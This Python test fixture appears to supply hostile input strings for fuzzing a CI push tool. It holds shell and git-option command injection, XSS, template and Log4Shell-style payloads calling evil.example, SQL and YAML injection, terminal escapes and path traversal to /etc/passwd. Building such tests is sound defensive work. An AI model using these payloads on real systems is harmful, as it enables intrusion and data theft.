"""Hostile text for every place that a push may write to: each line becomes `owned` if anything takes it for more."""

# ruff: noqa: E501

from __future__ import annotations

import itertools

COMMANDS = (
    "$(touch owned)", "`touch owned`", ";touch owned;", "|touch owned", "&&touch owned", "||touch owned", "&touch owned&",
    "\ntouch owned\n", "\r\ntouch owned\r\n", "'\ntouch owned\n'", "\";touch owned;\"", "';touch owned;'", ">owned", ">>owned",
    "<(touch owned)", "$((`touch owned`))", "${IFS}touch${IFS}owned", "$(touch${IFS}owned)", "`touch${IFS}owned`",
    "{touch,owned}", "x;$(id>owned)", "a|b&c;touch owned", "!touch owned", "\\`touch owned\\`", "$'\\x74ouch owned'",
    "%0atouch owned", "\x00touch owned", "eval touch owned", "~/owned", "*;touch owned", "[$(touch owned)]", "#`touch owned`",
)  # fmt: skip
OPTIONS = (
    "-x", "--", "--upload-pack=touch owned", "--exec=touch owned", "-c core.sshCommand=touch owned", "--output=owned",
    "-oProxyCommand=touch owned", "--config-env=x", "--receive-pack=touch owned", "--help", "-u touch", "--no-checkout",
    "ext::sh -c touch% owned", "ext::sh${IFS}-c${IFS}touch${IFS}owned", "file:///etc/passwd", "@{upstream}", "HEAD", "FETCH_HEAD",
)  # fmt: skip
MARKUP = (
    "<script>open('owned')</script>", '"><img src=x onerror=alert(1)>', "<svg/onload=alert(1)>", "<!--", "]]>", "</pre><b>",
    "</title><script src=//evil.example/x></script>", "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)', "<br/>",
    "<iframe src=javascript:alert(1)>", "<a href='javascript:alert(1)'>x</a>", "<style>*{display:none}</style>", "&lt;b&gt;",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example>", "<base href=//evil.example>",
    "<input name=csrf value=x>", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "&#60;script&#62;",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{{ ''.__class__.__mro__ }}", "{% include '/etc/passwd' %}", "{# x #}", "${jndi:ldap://evil.example/x}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "{0.__class__}", "{build_id}", "%(name)s", "%s%n%x", "f'{1}'", "{state!r}", "{{build.id}}", "$Format:%GG$",
)  # fmt: skip
TERMINAL = (
    "\x1b[2J\x1b[H", "\x1b]0;owned\x07", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x9b31mred", "\x1b[31mred\x1b[0m",
    "ok\rbad", "back\x08\x08\x08\x08", "\x1bP1$r\x1b\\", "\x07\x07", "\x1bc", "\x1b[?1049h", "\x1b]52;c;b3duZWQ=\x07", "\x0bv\x0cf",
    "\u202egnp.exe", "\u2066x\u2069", "zero\u200bwidth", "\ufeffbom", "\u2028line", "\u2029paragraph", "\x7f\x80\x9f", "\u061cx",
    "\U000e0041tag", "\ue000private", "soft\u00adhyphen",
)  # fmt: skip
DATA = (
    "'); DROP TABLE builds;--", "' OR '1'='1", '" OR ""="', "1; DELETE FROM deliveries", "x' UNION SELECT hash FROM tokens--",
    "!!python/object/apply:os.system [touch owned]", "&a [*a]", "key: value", "null", "~", "yes", "1e3", "0x10", "- a", "# x",
    "{a: b}", "[a]", "| x", "> x", "@x", "%TAG", "? x", "<<: *a", "__import__('os').system('touch owned')", "NaN", "-0", "[]",
    '{"$ref": "file:///etc/passwd"}', "x\r\nSet-Cookie: session=owned", "x\nX-Owned: 1", "event: end\ndata: {}", "\n\ndata: x",
    "id: 9\n\n", "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "rlctl_ci_builds_total 99", 'x"} 1\nrlctl_owned 1',
)  # fmt: skip
PATHS = (
    "../../../../etc/passwd", "..", ".", "/etc/passwd", "a/../../owned", "..\\..\\owned", "%2e%2e%2fowned", "C:\\owned",
    ".git/hooks/post-checkout", "refs/heads/main", "refs/tags/v1", "a/-b", "feat/x", "CON", "a.lock", "-/owned", "//owned",
    "\\\\evil.example\\share", "owned\x00.png", "x" * 200, "x" * 5000, "日本", "ümläut", "e\u0301", "😀", "ａｂｃ", "İi", "ß",
    "a b", "a:b", "a~1", "a^", "a?", "a*", "a[b", "a\\b", " a ", "\ttab\t", "@", "a@b", "a=b", "a,b", "a+b", "(a)", "a!b",
)  # fmt: skip
WORDS = tuple(dict.fromkeys(itertools.chain(COMMANDS, OPTIONS, MARKUP, TEMPLATES, TERMINAL, DATA, PATHS)))
